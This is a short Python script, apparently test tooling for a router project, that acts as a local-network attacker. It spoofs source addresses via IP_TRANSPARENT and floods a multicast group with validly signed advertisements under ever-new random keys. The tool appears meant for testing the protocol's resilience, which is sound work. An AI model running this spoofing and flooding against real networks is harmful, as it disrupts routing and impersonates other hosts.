"""An attacker on a local network: valid advertisements of ever new keys, in the name of any address.

    python lan_attacker.py '{"own": "10.64.1.1", "sources": ["10.64.9.1"], "port": 4101, "per_s": 50, "keys": 0}'

It says `begun`, and sends until it is killed. `keys`: how many keys it has, each of which it repeats in turn; 0: each
datagram is of another one. Nothing but the first router key of the network's own machines tells them from honest ones.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from itertools import count

from router.core.wire.address import IpAddress, parse_address
from router.core.wire.advert import make_advertisement
from router.core.wire.crypto import SigningKey
from router.core.wire.lifetime import expiry_min

GROUP = ("239.255.85.80", 4100)
IP_TRANSPARENT = 19  # Linux's number: send from addresses that are not this machine's


def advertisement(key: SigningKey, port: int) -> bytes:
    here = parse_address(f"tls://0.0.0.0:{port}")
    assert isinstance(here, IpAddress)
    now_s = time.time()
    return make_advertisement(key, [here], rev=int(now_s * 1000), ttl_s=30, expiry_min=expiry_min(now_s + 600)).message


def sender(source: str, own: str) -> socket.socket:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    made.bind((source, 0))
    made.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    return made


def main(own: str, sources: list[str], port: int, per_s: float, keys: int) -> None:
    senders = [sender(one, own) for one in sources]
    held = [SigningKey(os.urandom(32)) for _ in range(keys)]
    print("begun", flush=True)
    for number in count():
        key = held[number % keys] if keys else SigningKey(os.urandom(32))
        senders[number % len(senders)].sendto(advertisement(key, port), GROUP)
        time.sleep(1 / per_s)


if __name__ == "__main__":
    main(**json.loads(sys.argv[1]))
